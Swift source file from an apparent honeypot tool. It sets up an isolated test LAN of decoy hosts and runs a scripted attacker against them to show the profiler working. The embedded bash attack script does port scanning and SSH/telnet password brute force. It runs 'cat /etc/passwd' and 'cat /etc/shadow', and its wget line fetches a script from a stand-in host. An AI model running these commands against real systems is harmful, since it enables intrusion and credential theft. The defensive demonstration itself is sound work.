// Demo.swift: `decnet up --demo`'s own test LAN and scripted attacker. A bridge and an attacker namespace on a
// private /24 that no host route uses, three deckies on it (deployed by the caller from `fleetINI`), and an
// attacker that scans, brute-forces SSH and telnet, logs in and runs a few commands, only ever against the
// demo's own deckies. Everything is named with the `dnd-` (deckies) or `dnx-` prefix and removed by `tearDown`.
import ServiceLifecycle

#if canImport(Glibc)
import Glibc
#endif

public struct DemoLAN: Sendable {
    /// Namespace prefix of the demo's deckies (the decky runtime owns every namespace with it), and of the
    /// demo's own bridge, attacker namespace and links (interface names stay under 15 characters).
    public static let prefix = "dnd-"
    static let ownPrefix = "dnx-"
    public let bridge = "dnx-br"
    public let attackerNamespace = "dnx-atk"
    public let subnet: String  // "10.213.x"
    public var gateway: String { subnet + ".1" }
    public var attacker: String { subnet + ".66" }
    public let deckies: [(name: String, ip: String, services: [String])]

    public struct Failure: Error, CustomStringConvertible { public let description: String }

    init(subnet: String) {
        self.subnet = subnet
        deckies = [
            ("web1", subnet + ".10", ["http", "ssh"]), ("files1", subnet + ".11", ["ftp", "telnet", "ssh"]),
            ("db1", subnet + ".12", ["mysql", "redis", "ssh"]),
        ]
    }

    /// The deploy file for the three deckies (spec §12.6 dialect).
    public var fleetINI: String {
        var s = "[general]\nnet = \(subnet).0/24\ninterface = \(bridge)\ngateway = \(gateway)\n"
        for d in deckies { s += "\n[\(d.name)]\nip = \(d.ip)\nservices = \(d.services.joined(separator: ","))\n" }
        return s
    }

    /// Makes the bridge and the attacker namespace on the first candidate /24 no host address or route uses.
    /// A leftover demo (a killed run) is removed first.
    public static func create() throws -> DemoLAN {
        removeLeftovers()
        let used = (runProgram(["ip", "-4", "-o", "route", "show", "table", "all"]).output)
        let addrs = (runProgram(["ip", "-4", "-o", "addr", "show"]).output)
        guard
            let net = ["10.213.77", "10.213.78", "10.213.79", "172.30.213", "192.168.213"]
                .first(where: { !used.contains($0 + ".") && !addrs.contains($0 + ".") })
        else {
            throw Failure(description: "demo: no free private /24 for the test LAN")
        }
        let lan = DemoLAN(subnet: net)
        let steps: [[String]] = [
            ["ip", "link", "add", lan.bridge, "type", "bridge"],
            ["ip", "addr", "add", lan.gateway + "/24", "dev", lan.bridge],
            ["ip", "link", "set", lan.bridge, "up"],
            ["ip", "netns", "add", lan.attackerNamespace],
            ["ip", "link", "add", "dnx-atka", "type", "veth", "peer", "name", "dnx-atkb"],
            ["ip", "link", "set", "dnx-atkb", "netns", lan.attackerNamespace],
            ["ip", "link", "set", "dnx-atka", "master", lan.bridge, "up"],
            ["ip", "netns", "exec", lan.attackerNamespace, "ip", "addr", "add", lan.attacker + "/24", "dev", "dnx-atkb"],
            ["ip", "netns", "exec", lan.attackerNamespace, "ip", "link", "set", "dnx-atkb", "up"],
            ["ip", "netns", "exec", lan.attackerNamespace, "ip", "link", "set", "lo", "up"],
        ]
        for s in steps {
            let r: (status: Int32, output: String)? = runProgram(s, captureStderr: true)
            guard let r, r.status == 0 else {
                lan.tearDown(fleet: nil, prefix: prefix)
                throw Failure(description: "demo: `\(s.joined(separator: " "))` failed: \(r?.output ?? "cannot run ip")")
            }
        }
        _ = runProgram(["sysctl", "-qw", "net.ipv6.conf.\(lan.bridge).disable_ipv6=1"])
        return lan
    }

    /// Removes the deckies (runtime and records), the attacker namespace and the bridge. Idempotent.
    public func tearDown(fleet: DeckyFleet?, prefix: String) {
        if let fleet, let entries = try? fleet.entries().entries, let net = try? fleet.network() ?? nil {
            let rt = DeckyRuntime(prefix: prefix, network: net)
            for e in entries { rt.destroy(e.spec.name); try? fleet.remove(e.spec.name) }
            _ = rt.reconcile([])
            try? fleet.setNetwork(nil, prefix: prefix)
        }
        Self.removeLeftovers()
    }

    /// Every namespace and link named with the demo's prefix (their processes first).
    static func removeLeftovers() {
        let ns = (runProgram(["ip", "netns", "list"]).output)
        for line in ns.split(separator: "\n") {
            let name = String(line.split(separator: " ").first ?? "")
            guard name.hasPrefix(prefix) || name.hasPrefix(ownPrefix) else { continue }
            let pids = (runProgram(["ip", "netns", "pids", name]).output)
            for p in pids.split(separator: "\n") { if let pid = Int32(p) { kill(pid, SIGKILL) } }
            _ = runProgram(["ip", "netns", "del", name])
        }
        let links = (runProgram(["ip", "-o", "link", "show"]).output)
        for line in links.split(separator: "\n") {
            let parts = line.split(separator: ":", maxSplits: 2)
            guard parts.count >= 2 else { continue }
            let name = String(parts[1].drop { $0 == " " }.prefix { $0 != "@" })
            if name.hasPrefix(prefix) || name.hasPrefix(ownPrefix) { _ = runProgram(["ip", "link", "del", name]) }
        }
    }

    /// The attacker's script, run by bash inside the attacker namespace: one hop after another across the three
    /// deckies (a traversal), with the tools an attacker uses (nmap, sshpass + OpenSSH, telnet, curl, the MySQL
    /// and Redis clients) where installed.
    public var attackScript: String {
        let (a, b, c) = (deckies[0].ip, deckies[1].ip, deckies[2].ip)
        return """
            have() { command -v "$1" >/dev/null 2>&1; }
            ssho="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 -o LogLevel=ERROR"
            scan() { if have nmap; then nmap -sS -Pn -n --max-retries 1 -p 21-23,25,80,443,1883,3306,6379 "$1" >/dev/null 2>&1
                     else for p in 21 22 23 80 3306 6379; do (exec 3<>/dev/tcp/$1/$p) 2>/dev/null; done; fi; }
            echo "attacker: port scan of \(a)"; scan \(a); sleep 1
            echo "attacker: SSH brute force on \(a)"
            if have sshpass; then for pw in 123456 password root toor admin; do
              sshpass -p "$pw" ssh $ssho root@\(a) 'uname -a; id; cat /etc/passwd; wget http://203.0.113.7/x.sh' >/dev/null 2>&1 && break
            done; fi
            have curl && curl -s -m 5 -d 'username=admin&password=admin' http://\(a)/login >/dev/null
            sleep 1
            echo "attacker: port scan of \(b)"; scan \(b); sleep 1
            echo "attacker: telnet brute force on \(b)"
            if have telnet; then (sleep 1; echo root; sleep 0.5; echo 123456; sleep 3; echo root; sleep 0.5; echo admin; sleep 1
              echo 'uname -a'; sleep 0.5; echo 'cat /etc/shadow'; sleep 0.5; echo exit; sleep 1) | timeout 20 telnet \(b) >/dev/null 2>&1; fi
            sleep 1
            echo "attacker: port scan of \(c)"; scan \(c); sleep 1
            have redis-cli && timeout 5 redis-cli -h \(c) INFO >/dev/null 2>&1
            have mysql && timeout 5 mysql -h \(c) -u root -proot -e 'SHOW DATABASES' >/dev/null 2>&1
            echo "attacker: done"
            """
    }
}

/// Runs the demo's attacker once the decoys answer, then reports the attacker the profiler scored; keeps running
/// (the dashboard stays up) until Ctrl-C.
public struct DemoAttackerService: Service {
    let lan: DemoLAN
    let store: any ProfileStoring
    public init(lan: DemoLAN, store: any ProfileStoring) {
        self.lan = lan
        self.store = store
    }

    public func run() async throws {
        let lan = self.lan, store = self.store
        let log = ProcessLog("demo")
        // The decoys pick the deckies up within their poll; wait until the first one answers on SSH.
        for _ in 0..<60 {
            let r: (status: Int32, output: String)? = runProgram(
                [
                    "ip", "netns", "exec", lan.attackerNamespace, "bash", "-c",
                    "exec 3<>/dev/tcp/\(lan.deckies[0].ip)/22",
                ], captureStderr: true)
            if r?.status == 0 { break }
            try await Task.sleep(nanoseconds: 500_000_000)
            if Task.isCancelled { return }
        }
        log.info("attacker \(lan.attacker) starts (scan, SSH and telnet brute force, logins, commands)")
        let script = lan.attackScript
        let ns = lan.attackerNamespace
        let result = await withCheckedContinuation { (c: CheckedContinuation<String, Never>) in
            _ = spawnThread(name: "decnet-demo") {
                let r: (status: Int32, output: String)? = runProgram(["ip", "netns", "exec", ns, "bash", "-c", script], captureStderr: true)
                c.resume(returning: r?.output ?? "")
            }
        }
        for line in result.split(separator: "\n") where line.hasPrefix("attacker:") { log.info(String(line)) }
        // Report the scored attacker as soon as the profiler has folded the hops.
        for _ in 0..<60 {
            if let a = try? store.attackers(limit: 10, offset: 0).first(where: { $0.ip == lan.attacker }), a.deckyCount >= 2 {
                stdoutLine(
                    "decnet up: attacker \(a.ip) scored \(Int(a.score)), \(a.deckyCount) deckies, traversal \(a.isTraversal ? "yes" : "no"), \(a.eventCount) events"
                )
                break
            }
            try? await Task.sleep(nanoseconds: 1_000_000_000)
        }
        stdoutLine("decnet up: demo running; Ctrl-C removes it")
        try? await gracefulShutdown()
    }
}
